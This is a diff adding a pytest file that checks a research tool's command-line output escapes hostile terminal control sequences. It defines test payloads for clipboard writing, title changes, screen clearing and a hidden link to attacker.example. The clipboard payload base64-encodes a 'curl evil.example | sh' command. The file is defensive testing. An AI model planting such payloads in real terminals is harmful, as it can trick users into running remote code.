@@ -1,0 +1,135 @@
+"""Terminals render what they receive: control sequences in the data are shown, never executed.
+
+Payloads from the attack pass: write the clipboard (OSC 52), set the window title, clear the screen,
+plant a hidden hyperlink (OSC 8), and the 8-bit CSI (C1) form.
+"""
+
+from __future__ import annotations
+
+import io
+import sys
+
+import pytest
+from _hostile import transcript
+
+from wei_qual.cli import app
+from wei_qual.console import SafeConsole, echo_data, escape_controls
+from wei_qual.models import Code, Codebook
+from wei_qual.store import open_db, transaction
+from wei_qual.store.codebooks import save_codebook_version
+from wei_qual.store.transcripts import save_transcript
+
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+TITLE = "\x1b]0;pwned\x07"
+CLEAR = "\x1b[2J\x1b[H"
+LINK = "\x1b]8;;http://attacker.example\x1b\\click here\x1b]8;;\x1b\\"
+CSI8 = "\x9b31m"
+PAYLOAD = CLIPBOARD + TITLE + CLEAR + LINK + CSI8
+
+
+def _raw_controls(text: str) -> list[str]:
+    """Control characters a terminal would act on (newline and tab are fine)."""
+    return [ch for ch in text if (ord(ch) < 32 and ch not in "\n\t") or 0x7F <= ord(ch) <= 0x9F]
+
+
+@pytest.fixture
+def project(tmp_path):
+    path = tmp_path / "study.db"
+    db = open_db(path)
+    with transaction(db):
+        save_transcript(
+            db,
+            transcript(
+                "p1" + TITLE,
+                ["We waited." + PAYLOAD, "No beds."],
+                {"role": "officer" + CLIPBOARD, "setting": LINK},
+                speaker="P" + CLEAR,
+            ),
+        )
+        save_codebook_version(
+            db,
+            Codebook(
+                name="Crisis" + TITLE,
+                version="1",
+                codes=(Code("wait", "Waiting" + CLIPBOARD), Code("beds", LINK)),
+            ),
+            "name: x\n",
+        )
+    db.close()
+    return path
+
+
+def test_escape_controls_shows_them_and_keeps_text():
+    assert escape_controls("a\x1b]52;c;x\x07b\tc\nd\x9b\x7f") == "a\\x1b]52;c;x\\x07b\tc\nd\\x9b\\x7f"
+    assert escape_controls("Ünïcødé [inaudible] 日本") == "Ünïcødé [inaudible] 日本"
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["transcripts", "list"],
+        ["transcripts", "show", "p1" + TITLE],
+        ["codebook", "show"],
+        ["codebook", "versions"],
+    ],
+)
+def test_listings_show_control_characters_as_escapes(runner, project, args):
+    result = runner.invoke(app, [*args, "--db", str(project)], catch_exceptions=False)
+    assert result.exit_code == 0, result.stderr
+    assert _raw_controls(result.stdout) == []
+    assert "\\x1b]" in result.stdout  # visible, so the reader sees something odd is in the data
+
+
+def test_error_lines_escape_file_names(runner, project):
+    result = runner.invoke(app, ["decisions", "import", "evil" + CLIPBOARD + ".csv", "--db", str(project)])
+    assert result.exit_code == 1
+    assert _raw_controls(result.stderr) == []
+    assert (
+        result.stderr
+        == 'Error: File "evil\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07.csv" does not exist. Check the path.\n'
+    )
+
+
+def test_the_coding_screen_escapes_transcript_text_attributes_and_codes(project):
+    from wei_qual.cli.code_screen import render_codebook, run_session
+    from wei_qual.coding import load_session
+
+    db = open_db(project)
+    session, context = load_session(db, "alice")
+    buffer = io.StringIO()
+    out = SafeConsole(file=buffer, force_terminal=True, width=120, color_system="truecolor")
+    answers = iter(["?", "q"])
+    run_session(db, session, context, read_line=lambda prompt: next(answers), out=out)
+    out.print(render_codebook(session.codebook))
+    screen = buffer.getvalue()
+    # Rich's own colours are CSI "m" sequences; nothing else may reach the terminal.
+    leftovers = screen
+    import re
+
+    leftovers = re.sub(r"\x1b\[[0-9;]*m", "", leftovers)  # styles
+    leftovers = leftovers.replace("\x1b[2J\x1b[H", "", 1) if out.is_terminal else leftovers  # clear()
+    assert _raw_controls(leftovers) == [], repr(leftovers[:200])
+    assert "\\x1b]52;c;" in screen and "\\x1b]8;;http://attacker.example" in screen and "\\x9b31m" in screen
+
+
+def test_data_on_a_terminal_is_escaped_and_in_a_pipe_left_exact(monkeypatch, capsys):
+    echo_data("csv," + CLIPBOARD)
+    assert capsys.readouterr().out == "csv," + CLIPBOARD + "\n"  # a pipe or file gets the exact data
+
+    class Tty(io.StringIO):
+        def isatty(self) -> bool:
+            return True
+
+    tty = Tty()
+    monkeypatch.setattr(sys, "stdout", tty)
+    echo_data("csv," + CLIPBOARD)
+    assert tty.getvalue() == "csv,\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\n"
+
+
+def test_prompts_are_escaped(monkeypatch):
+    from wei_qual.cli import code_screen
+
+    seen = []
+    monkeypatch.setattr("builtins.input", lambda prompt: seen.append(prompt) or "x")
+    code_screen._read_line("Memo on transcript p1" + TITLE + ": ")
+    assert seen == ["Memo on transcript p1\\x1b]0;pwned\\x07: "]
